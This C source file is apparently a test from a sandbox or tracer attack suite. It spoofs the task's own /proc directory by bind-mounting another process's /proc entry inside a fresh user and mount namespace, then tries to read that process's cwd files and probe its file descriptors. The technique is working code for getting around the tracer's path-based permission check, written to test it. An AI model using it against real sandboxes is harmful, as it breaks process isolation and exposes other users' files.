/* proc_spoof_self.c PID NAME UID WORK: another process's /proc directory mounted where the
 * tracer reads the task's own /proc/TGID (review 53).
 *
 * _may_follow lets a task follow its own process's magic links without reading any status,
 * telling its own by the tracer's name of the /proc directory the walk stands in.  That name
 * is the mount's path in the task's mount namespace: a task that may mount there (root of a
 * user namespace of its own, as nobody is once it unshares one) binds another process's /proc
 * directory over a tmpfs it mounted on /proc, at /proc/<its own pid>.  The program drops to UID,
 * enters a new user and mount namespace, does so with process PID's directory (its /proc moved
 * to WORK/proc first), starts a thread (ESC_THREAD=1: a tree of two tasks, whose calls are
 * handed to the kernel by their canonical spelling) and opens /proc/<own pid>/cwd/NAME --
 * PID's cwd.  Natively EACCES (PID's credentials are in another user namespace, and the task
 * holds no CAP_SYS_PTRACE there); a walk taken in by the name reads the file.  Then
 * /proc/<own pid>/fd/987654: natively EACCES (PID's fd directory is not the task's to search,
 * PID not being dumpable), where a walk that takes the directory for the task's own answers
 * ENOENT -- which descriptors PID holds. */
#include "attack.h"
#include <sched.h>
#include <sys/mount.h>
#include <sys/prctl.h>

int main(int argc, char **argv) {
    if (argc < 5) usage("proc_spoof_self PID NAME UID WORK");
    uid_t uid = (uid_t)atoi(argv[3]);
    gid_t gid = getgid();
    if (setresuid(uid, uid, uid)) skipped("setresuid: %s", ename(errno));
    prctl(PR_SET_DUMPABLE, 1, 0, 0, 0);  /* (its /proc/self/uid_map its own to write) */
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS)) skipped("unshare: %s", ename(errno));
    map_own_ids(uid, gid);
    char real[512], mine[64], theirs[600];
    snprintf(real, sizeof real, "%s/proc", argv[4]);
    if (mkdir(real, 0755) && errno != EEXIST) skipped("mkdir %s: %s", real, ename(errno));
    if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL)) skipped("private: %s", ename(errno));
    if (mount("/proc", real, NULL, MS_BIND | MS_REC, NULL)) skipped("bind: %s", ename(errno));
    if (mount("spoof", "/proc", "tmpfs", 0, NULL)) skipped("tmpfs: %s", ename(errno));
    snprintf(mine, sizeof mine, "/proc/%d", (int)getpid());
    snprintf(theirs, sizeof theirs, "%s/%s", real, argv[1]);
    if (mkdir(mine, 0755)) skipped("mkdir %s: %s", mine, ename(errno));
    if (mount(theirs, mine, NULL, MS_BIND, NULL)) skipped("bind %s: %s", theirs, ename(errno));
    idle_thread_if_asked();
    char path[600];
    snprintf(path, sizeof path, "%s/cwd/%s", mine, argv[2]);
    try_open_at(AT_FDCWD, "/proc/<own pid>/cwd/NAME (PID's)", path, O_RDONLY);
    /* its fd directory: searched as the task's own (proc_fd_permission) it tells which
     * descriptors PID holds -- natively EACCES whatever the number */
    snprintf(path, sizeof path, "%s/fd/987654", mine);
    try_open_at(AT_FDCWD, "/proc/<own pid>/fd/987654 (PID's)", path, O_RDONLY);
    tally_done();
}
